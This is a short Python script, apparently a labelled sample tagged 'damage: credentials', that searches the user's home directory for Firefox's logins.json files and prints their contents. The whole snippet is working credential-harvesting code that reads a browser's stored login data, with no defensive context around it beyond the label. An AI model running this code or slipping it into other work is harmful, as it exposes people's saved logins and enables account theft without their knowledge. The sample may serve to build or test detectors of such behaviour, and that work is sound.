# A browser's stored logins are found by their name.
# damage: credentials
import glob
import os

for name in glob.glob(os.path.expanduser("~/.mozilla/**/logins.json"), recursive=True):
    with open(name) as file:
        print(file.read())
